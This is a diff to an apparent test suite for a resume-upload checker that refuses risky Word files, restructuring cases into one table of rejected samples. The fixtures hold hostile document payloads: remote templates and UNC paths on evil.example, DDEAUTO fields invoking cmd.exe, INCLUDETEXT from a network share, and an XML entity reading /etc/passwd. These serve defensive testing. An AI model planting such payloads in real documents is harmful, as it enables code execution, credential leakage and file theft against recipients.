@@ -149,97 +149,75 @@ describe("a resume's file", () => {
     expect(await inspect(path, bytes)).toEqual(createRefusal("locked", "The file requires a password."));
   });
 
-  it.each([
-    ["macros", "cv.doc", sampleDoc("WordDocument", "Macros/VBA/dir"), "The file contains macros."],
-    [
-      "an embedded object",
-      "cv.doc",
-      sampleDoc("WordDocument", "ObjectPool/_1234/\u0001Ole10Native"),
-      "The file contains an embedded object.",
-    ],
-    [
-      "a DDE field",
-      "cv.doc",
-      docWith('\u0013 DDEAUTO c:\\\\windows "calc"\u0014'),
-      "The file contains a field that loads data from other programs.",
-    ],
-    [
-      "macros",
-      "cv.docx",
-      sampleDocx({ "word/vbaProject.bin": Buffer.alloc(9) }),
-      "The file contains macros.",
-    ],
-    [
-      "the content type of a document with macros",
-      "cv.docx",
-      sampleDocx({}, MACRO_DOCX_TYPE),
-      "The file contains macros.",
-    ],
-  ])("is rejected if it has %s: %s", async (_what, path, bytes, reason) => {
-    expect(await inspect(path, bytes)).toEqual(createRefusal("active", reason));
-  });
-
   const DOCUMENT = "word/_rels/document.xml.rels";
   const SETTINGS = "word/_rels/settings.xml.rels";
   const STRICT_NAMESPACE = "http://purl.oclc.org/ooxml/officeDocument/relationships";
   const MICROSOFT_NAMESPACE = "http://schemas.microsoft.com/office/2006/relationships";
-  /** Parts of DOCX files that are rejected, by the reason and by what the parts contain. */
-  const REJECTED: Record<string, Record<string, Record<string, Buffer>>> = {
+  const docx = (parts: Record<string, Buffer>) => ["cv.docx", createDocxWith(parts)] as const;
+  /** Names and contents of files that are rejected, by the reason and by what they contain. */
+  const REJECTED: Record<string, Record<string, readonly [name: string, bytes: Buffer]>> = {
     "The file contains an embedded object.": {
-      "an OLE object": {
+      "an embedded object in a DOC": [
+        "cv.doc",
+        sampleDoc("WordDocument", "ObjectPool/_1234/\u0001Ole10Native"),
+      ],
+      "an OLE object": docx({
         [DOCUMENT]: relationships({ type: "oleObject", target: "embeddings/oleObject1.bin" }),
-      },
-      "an OLE object in Strict Open XML": {
+      }),
+      "an OLE object in Strict Open XML": docx({
         [DOCUMENT]: relationships({ type: `${STRICT_NAMESPACE}/oleObject`, target: "a.bin" }),
-      },
-      "a linked OLE object": { [DOCUMENT]: externalRelationship("oleObject", "file:///C:\\a.docx") },
+      }),
+      "a linked OLE object": docx({ [DOCUMENT]: externalRelationship("oleObject", "file:///C:\\a.docx") }),
     },
     "The file contains an embedded file.": {
-      "a program as an embedded package": {
+      "a program as an embedded package": docx({
         [DOCUMENT]: relationships({ type: "package", target: "embeddings/setup.exe" }),
-      },
-      "an OLE file named like a picture": {
+      }),
+      "an OLE file named like a picture": docx({
         "word/media/image1.png": Buffer.from("d0cf11e0a1b11ae1", "hex"),
-      },
-      "a program named like a picture": { "word/media/image1.png": Buffer.from("MZ\x90") },
-      "an embedded document": { [DOCUMENT]: relationships({ type: "aFChunk", target: "a.rtf" }) },
+      }),
+      "a program named like a picture": docx({ "word/media/image1.png": Buffer.from("MZ\x90") }),
+      "an embedded document": docx({ [DOCUMENT]: relationships({ type: "aFChunk", target: "a.rtf" }) }),
     },
     "The file contains an ActiveX control.": {
-      "an ActiveX control": {
+      "an ActiveX control": docx({
         [DOCUMENT]: relationships({ type: "control", target: "activeX/activeX1.xml" }),
-      },
-      "the data of an ActiveX control": {
+      }),
+      "the data of an ActiveX control": docx({
         "word/activeX/_rels/activeX1.xml.rels": relationships({
           type: `${MICROSOFT_NAMESPACE}/activeXControlBinary`,
           target: "a.bin",
         }),
-      },
+      }),
     },
     "The file contains macros.": {
-      "macros in a part with another name": {
+      "macros in a DOC": ["cv.doc", sampleDoc("WordDocument", "Macros/VBA/dir")],
+      "macros in a DOCX": ["cv.docx", sampleDocx({ "word/vbaProject.bin": Buffer.alloc(9) })],
+      "the content type of a document with macros": ["cv.docx", sampleDocx({}, MACRO_DOCX_TYPE)],
+      "macros in a part with another name": docx({
         [DOCUMENT]: relationships({ type: `${MICROSOFT_NAMESPACE}/vbaProject`, target: "a.bin" }),
-      },
+      }),
     },
     "The file would load a template from the network when opened.": {
-      "a template on a web server": {
+      "a template on a web server": docx({
         [SETTINGS]: externalRelationship("attachedTemplate", "https://evil.example/a.dotm"),
-      },
-      "a template on a network share": {
+      }),
+      "a template on a network share": docx({
         [SETTINGS]: externalRelationship("attachedTemplate", "\\\\evil.example\\a\\a.dotm"),
-      },
-      "a template on a network share, with a file: URL": {
+      }),
+      "a template on a network share, with a file: URL": docx({
         [SETTINGS]: externalRelationship("attachedTemplate", "file:///\\\\evil.example\\a.dotm"),
-      },
-      "a template with the file: URL of another host": {
+      }),
+      "a template with the file: URL of another host": docx({
         [SETTINGS]: externalRelationship("attachedTemplate", "file://evil.example/a.dotm"),
-      },
-      "a template whose URL has a leading space and a character reference": {
+      }),
+      "a template whose URL has a leading space and a character reference": docx({
         [SETTINGS]: externalRelationship("attachedTemplate", " &#x68;ttps://evil.example/a.dotm"),
-      },
-      "a template whose URL is percent-encoded": {
+      }),
+      "a template whose URL is percent-encoded": docx({
         [SETTINGS]: externalRelationship("attachedTemplate", "file:///%5C%5Cevil.example%5Ca.dotm"),
-      },
-      "a template in a UTF-16 part with a namespace prefix": {
+      }),
+      "a template in a UTF-16 part with a namespace prefix": docx({
         [SETTINGS]: Buffer.from(
           `\ufeff${externalRelationship("attachedTemplate", "http://evil.example/a")
             .toString("utf8")
@@ -248,75 +226,80 @@ describe("a resume's file", () => {
             .replace(/<Relationship(?=s?\b)/g, "<é:Relationship")}`,
           "utf16le",
         ),
-      },
+      }),
     },
     "The file would load a picture from the network when opened.": {
-      "a picture on a web server": { [DOCUMENT]: externalRelationship("image", "http://evil.example/a.png") },
-      "a picture on a network share": {
+      "a picture on a web server": docx({
+        [DOCUMENT]: externalRelationship("image", "http://evil.example/a.png"),
+      }),
+      "a picture on a network share": docx({
         [DOCUMENT]: externalRelationship("image", "\\\\evil.example\\a.png"),
-      },
-      "a VML drawing with a picture on a network share": {
+      }),
+      "a VML drawing with a picture on a network share": docx({
         "word/header1.xml": createDocumentWith(
           '<v:imagedata xmlns:v="urn:schemas-microsoft-com:vml" src="\\\\evil.example\\a.png"/>',
         ),
-      },
+      }),
     },
     "The file would load content from the network when opened.": {
-      "a frame with a document on a network share": {
+      "a frame with a document on a network share": docx({
         "word/_rels/webSettings.xml.rels": externalRelationship("frame", "\\\\evil.example\\a.docx"),
-      },
-      "a linked subdocument": { [DOCUMENT]: externalRelationship("subDocument", "a.docx") },
+      }),
+      "a linked subdocument": docx({ [DOCUMENT]: externalRelationship("subDocument", "a.docx") }),
+    },
+    "The file contains a field that loads data from other programs.": {
+      "a DDE field in a DOC": ["cv.doc", docWith('\u0013 DDEAUTO c:\\\\windows "calc"\u0014')],
     },
     "The file contains a field that loads data from other programs (DDEAUTO).": {
-      "a DDE field": {
+      "a DDE field": docx({
         "word/document.xml": createDocumentWith(
           field(" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; "),
         ),
-      },
+      }),
     },
     "The file contains a field that loads data from other programs (DDE).": {
-      "a DDE field split into pieces": {
+      "a DDE field split into pieces": docx({
         "word/footer1.xml": createDocumentWith(field(" D", "D", "<!-- -->E", " excel ")),
-      },
-      "a DDE field in a fldSimple element": {
+      }),
+      "a DDE field in a fldSimple element": docx({
         "word/document.xml": createDocumentWith("<w:fldSimple w:instr='DDE excel \"a\"'/>"),
-      },
+      }),
     },
     "The file contains a field that loads data from other programs (dde).": {
-      "a DDE field within another field": {
+      "a DDE field within another field": docx({
         "word/document.xml": createDocumentWith(
           field(' IF 1 = 1 "').replace("<w:t>shown</w:t>", field("dde excel")),
         ),
-      },
+      }),
     },
     "The file contains a field that loads content from the network.": {
-      "a field that includes text from a network share": {
+      "a field that includes text from a network share": docx({
         "word/document.xml": createDocumentWith(
           field(" INCLUDETEXT &quot;\\\\\\\\evil.example\\\\a.docx&quot; "),
         ),
-      },
+      }),
     },
     "The file declares XML entities, which word processors never write.": {
-      "XML entities in a part": {
+      "XML entities in a part": docx({
         "word/document.xml": Buffer.from('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
-      },
-      "XML entities in [Content_Types].xml": {
+      }),
+      "XML entities in [Content_Types].xml": docx({
         "[Content_Types].xml": Buffer.from('<?xml version="1.0"?><!DOCTYPE Types [<!ENTITY a "b">]><Types/>'),
-      },
-      "XML entities in a UTF-16 part": {
+      }),
+      "XML entities in a UTF-16 part": docx({
         "word/styles.xml": Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY b "c">]><a/>', "utf16le"),
-      },
-      "XML entities in a part with another extension": {
+      }),
+      "XML entities in a part with another extension": docx({
         "word/a.dat": Buffer.from('  <!DOCTYPE a [<!ENTITY b "c">]><a/>'),
-      },
+      }),
     },
   };
   const rejectedFiles = Object.entries(REJECTED).flatMap(([reason, contents]) =>
-    Object.entries(contents).map(([content, parts]) => ({ content, parts, reason })),
+    Object.entries(contents).map(([content, [name, bytes]]) => ({ content, name, bytes, reason })),
   );
 
-  it.each(rejectedFiles)("is rejected if it has $content", async ({ parts, reason }) => {
-    expect(await inspect("cv.docx", createDocxWith(parts))).toEqual(createRefusal("active", reason));
+  it.each(rejectedFiles)("is rejected if it has $content", async ({ name, bytes, reason }) => {
+    expect(await inspect(name, bytes)).toEqual(createRefusal("active", reason));
   });
 });
 
